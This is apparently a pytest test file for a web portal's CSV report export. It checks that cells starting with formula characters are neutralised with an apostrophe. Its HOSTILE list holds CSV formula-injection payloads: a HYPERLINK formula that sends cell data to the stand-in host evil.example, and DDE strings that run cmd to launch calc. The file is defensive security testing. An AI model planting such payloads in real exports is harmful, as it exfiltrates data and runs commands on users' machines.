"""CSV reports: text a spreadsheet would run as a formula arrives as text, whatever the customer or an operator typed."""

from __future__ import annotations

import csv
import io

import pytest

from mitigation.models import Deployment
from portal.spreadsheet import safe_cell
from tests.portal.test_customer_pages import client_as, make_mitigation
from tests.support.world import World

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_any_cell_of_the_mitigation_report_is_neutralised(world: World, text: str) -> None:
    mitigation = make_mitigation(world.acme)
    mitigation.reason = text
    mitigation.save()
    Deployment.objects.filter(action__mitigation=mitigation).update(detail=text)
    response = client_as("acme", "viewer").get(f"/mitigations/{mitigation.pk}/report.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + text in cells, "the hostile text is kept, behind an apostrophe"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_ordinary_cells_are_left_as_they_are() -> None:
    assert safe_cell("203.0.113.10/32") == "203.0.113.10/32"
    assert safe_cell("udp flood; peak 5 bit/s") == "udp flood; peak 5 bit/s"
    assert safe_cell(-5) == -5, "numbers are data, not formulas"
    assert safe_cell("") == ""
